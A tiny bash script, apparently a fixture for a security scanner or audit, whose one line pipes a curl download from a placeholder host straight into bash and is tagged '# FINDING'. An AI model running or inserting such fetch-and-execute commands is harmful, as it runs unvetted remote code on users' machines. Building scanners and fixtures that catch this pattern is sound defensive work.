#!/bin/bash
bash <(curl -s https://example.com/x)  # FINDING
